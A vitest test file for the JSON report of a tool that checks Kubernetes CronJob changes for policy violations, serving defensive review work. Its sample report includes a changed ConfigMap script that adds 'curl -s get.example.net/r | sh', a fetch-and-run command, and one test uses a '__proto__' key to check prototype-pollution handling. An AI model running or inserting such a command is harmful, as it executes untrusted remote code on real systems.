// The versioned JSON output: its exact shape, its order, and values that JSON has no word for.
import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { allRuleDocs } from '../../src/judge/rule-set.ts';
import type { Change, Finding, Json } from '../../src/model.ts';
import type { CheckReport } from '../../src/outcome.ts';
import { jsonFormat } from '../../src/report/json.ts';
import { reportSchemas } from '../../src/report/schema.ts';
import { plainValue } from '../../src/text/value.ts';
import {
  location,
  sampleCheckReport,
  sampleListReport,
  sampleVerifyReport,
  workload,
} from '../support/sample-report.ts';

function parsed(report: Parameters<typeof jsonFormat.render>[0]) {
  return JSON.parse(jsonFormat.render(report));
}

test('check', () => {
  const output = parsed(sampleCheckReport());
  expect(Object.keys(output)).toEqual([
    'schemaVersion',
    'verdict',
    'base',
    'head',
    'changes',
    'findings',
    'needs',
    'problems',
    'accounts',
    'untouched',
    'stats',
  ]);
  expect(output).toMatchObject({
    schemaVersion: 1,
    verdict: 'violation',
    base: '3f2a9c1b7d04e5a6980c1f2e3d4b5a6978877665',
    stats: { filesChanged: 7, filesParsed: 5, workloadsChecked: 6, unlistedBefore: 2 },
  });
  expect(output.changes.map((change: { workload: { name: string } }) => change.workload.name)).toEqual([
    'nightly-report',
    'legacy-sync',
    'queue-drain',
    'node-cleanup',
  ]);
  expect(output.changes[0]).toEqual({
    workload: {
      apiVersion: 'batch/v1',
      kind: 'CronJob',
      namespace: 'billing',
      name: 'nightly-report',
      generateName: null,
      schedule: '*/1 * * * *',
      timeZone: 'Etc/UTC',
      suspend: false,
      serviceAccount: 'report-runner',
      images: ['docker.io/acme-tools/report:latest'],
      hooks: [],
      source: { type: 'manifest', path: 'apps/billing' },
      location: { path: 'apps/billing/nightly-report.yaml', line: 1, column: 1, precision: 'exact' },
      listed: true,
      digest: `sha256:${'a70d2f55'.repeat(8)}`,
    },
    change: 'modified',
    classes: ['schedule', 'image-source', 'command', 'environment'],
    fields: [
      { path: 'spec.schedule', before: '0 2 * * *', after: '*/1 * * * *' },
      {
        path: 'spec.jobTemplate.spec.template.spec.containers[0].image',
        before: 'ghcr.io/acme/report:1.4.2',
        after: 'docker.io/acme-tools/report:latest',
      },
      {
        path: 'ConfigMap report-scripts: run.sh',
        before: '#!/bin/sh\nset -eu\nreport --send\n',
        after: '#!/bin/sh\nset -eu\ncurl -s get.example.net/r | sh\nreport --send\n',
      },
      { path: 'spec.jobTemplate.spec.backoffLimit', before: null, after: 0 },
    ],
  });
  expect(output.findings.at(-1)).toEqual({
    rule: 'schedule-too-frequent',
    severity: 'high',
    message: 'CronJob `ops`/`queue-drain` runs every minute; the shortest interval allowed is 5 minutes.',
    remediation: 'Run it less often, or ask for an exception in its inventory entry.',
    location: { path: 'apps/ops/queue-drain.yaml', line: 6, column: 13, precision: 'exact' },
    workload: { kind: 'CronJob', namespace: 'ops', name: 'queue-drain' },
    attack: ['T1053.007'],
    excepted: { reason: 'The queue must be drained every minute.', expires: '2027-01-01' },
  });
  expect(output.needs[0]).toEqual({
    name: 'platform security',
    reason: 'Job `kube-system`/`node-cleanup` (new)',
    from: ['@acme/platform-security', '@carol'],
    required: 2,
    status: 'pending',
    approvedBy: ['@carol'],
    ignored: [{ who: '@mallory', why: 'opened this pull request.' }],
    mayApprove: ['@acme/platform-security'],
    notes: ['The members of `@acme/platform-security` cannot be read.'],
  });
  expect(output.problems).toEqual([
    {
      code: 'render-failed',
      path: 'charts/api',
      message: '`helm template` stopped: values.yaml has no key `image.tag`.',
      hint: 'Mend the chart, or name its values files under `sources` in the config.',
    },
  ]);
});

test('a problem that is only a warning says so, and comes last', () => {
  const problem = { code: 'render-failed', path: 'charts/api', message: 'It stopped.', hint: 'Mend it.' } as const;
  const problems = [{ ...problem, level: 'warning' as const }, problem];
  expect(parsed({ ...sampleCheckReport(), problems }).problems).toEqual([problem, { ...problem, level: 'warning' }]);
});

test('findings come worst first, and what an exception covers last', () => {
  const { findings } = parsed(sampleCheckReport());
  expect(findings.map((finding: { rule: string; severity: string }) => `${finding.severity} ${finding.rule}`)).toEqual([
    'critical image-registry-not-allowed',
    'critical job-not-in-inventory',
    'high schedule-too-frequent',
    'medium run-as-root',
    'low inventory-expired',
    'high schedule-too-frequent',
  ]);
});

test('findings that differ in anything have one order', () => {
  const [one] = sampleCheckReport().findings;
  if (one === undefined) throw new Error('The sample has findings.');
  const others: readonly Finding[] = [
    { ...one, severity: 'low' },
    { ...one, blocking: false },
    { ...one, rule: 'other' },
    { ...one, message: 'Other.' },
    { ...one, remediation: 'Other.' },
    { ...one, location: { ...one.location, path: 'other.yaml' } },
    { ...one, location: { ...one.location, line: 1 } },
    { ...one, location: { ...one.location, column: 1 } },
    { ...one, location: { ...one.location, precision: 'template' } },
    { ...one, workload: null },
    { ...one, workload: { kind: 'CronJob', namespace: 'other', name: 'nightly-report' } },
    { ...one, attack: [] },
    { ...one, excepted: { reason: 'Known.', expires: null } },
    { ...one, excepted: { reason: 'Known.', expires: '2027-01-01' } },
  ];
  for (const other of others) {
    const [forth, back] = [
      [one, other],
      [other, one],
    ].map(findings => jsonFormat.render({ ...sampleCheckReport(), findings }));
    expect(forth).toBe(back);
  }
});

test('verify and list', () => {
  expect(Object.keys(parsed(sampleVerifyReport()))).toEqual([
    'schemaVersion',
    'verdict',
    'workloads',
    'findings',
    'problems',
  ]);
  const list = parsed(sampleListReport());
  expect(Object.keys(list)).toEqual(['schemaVersion', 'workloads', 'problems']);
  expect(list.workloads.map((each: { listed: boolean }) => each.listed)).toEqual([true, true, false, false]);
  expect(list.workloads[2]).toMatchObject({ name: null, generateName: 'migrate-' });
});

test('the work tree has no commit', () => {
  expect(parsed({ ...sampleCheckReport(), head: { name: 'worktree', commit: null } }).head).toBe('worktree');
});

function withValue(after: Json): CheckReport {
  const place = location('a.yaml', 1);
  const subject = workload({ location: place });
  const change: Change = {
    change: 'modified',
    workload: subject,
    before: subject,
    after: subject,
    classes: ['environment'],
    fields: [{ path: 'spec.x', before: undefined, after, class: 'environment', location: place }],
    listed: false,
  };
  return { ...sampleCheckReport(), changes: [change] };
}

test.each<[string, Json, unknown]>([
  ['a whole number beyond 2^53', 2n ** 64n, '18446744073709551616'],
  ['not a number', Number.NaN, 'NaN'],
  ['infinity', Number.NEGATIVE_INFINITY, '-Infinity'],
  ['long text', 'x'.repeat(2_001), `${'x'.repeat(2_000)}… (1 more characters)`],
  ['null', null, null],
  ['false', false, false],
])('%s', (_, value, expected) => {
  expect(parsed(withValue(value)).changes[0].fields[0]).toEqual({ path: 'spec.x', before: null, after: expected });
});

test('depth and width are cut with a mark', () => {
  let value: Json = 'bottom';
  for (let level = 0; level < 50_000; level += 1) value = [value];
  expect(JSON.stringify(plainValue(value))).toContain('nested deeper than 32 levels');
  const wide = plainValue(Array.from({ length: 5_000 }, () => 1));
  expect(Array.isArray(wide) && wide.at(-1)).toBe('… (4001 more items)');
  const keys = plainValue(Object.fromEntries(Array.from({ length: 5_000 }, (_, index) => [`k${index}`, 1])));
  expect(JSON.stringify(keys)).toContain('… (4001 more keys)');
});

test('a key that would change the prototype of a careless reader is a key', () => {
  const hostile: Record<string, Json> = Object.create(null);
  Object.defineProperty(hostile, '__proto__', { value: { polluted: true }, enumerable: true });
  expect(jsonFormat.render(withValue(hostile))).toContain('"__proto__": {');
});

test.each(Object.entries(reportSchemas))('schema/%s.schema.json is what the code says', (name, schema) => {
  const text = readFileSync(new URL(`../../schema/${name}.schema.json`, import.meta.url), 'utf8');
  expect(text, 'Run `npm run generate`.').toBe(`${JSON.stringify(schema, null, 2)}\n`);
});

test.each(Object.values(reportSchemas))('every property is described', schema => {
  const undescribed: string[] = [];
  const walk = (node: unknown, path: string): void => {
    if (typeof node !== 'object' || node === null) return;
    for (const [key, value] of Object.entries(node)) {
      if (key === 'properties') {
        for (const [name, property] of Object.entries<object>(value)) {
          const known = 'description' in property || '$ref' in property || 'anyOf' in property;
          if (!known) undescribed.push(`${path}.${name}`);
        }
      }
      walk(value, `${path}.${key}`);
    }
  };
  walk(schema, '');
  expect(undescribed).toEqual([]);
});

test('the samples name rules that there are', async () => {
  const known = (await allRuleDocs()).map(rule => rule.id);
  const named = [sampleCheckReport(), sampleVerifyReport()].flatMap(({ findings }) => findings.map(({ rule }) => rule));
  expect(named.length).toBeGreaterThan(5);
  expect(named.filter(rule => !known.includes(rule))).toEqual([]);
});
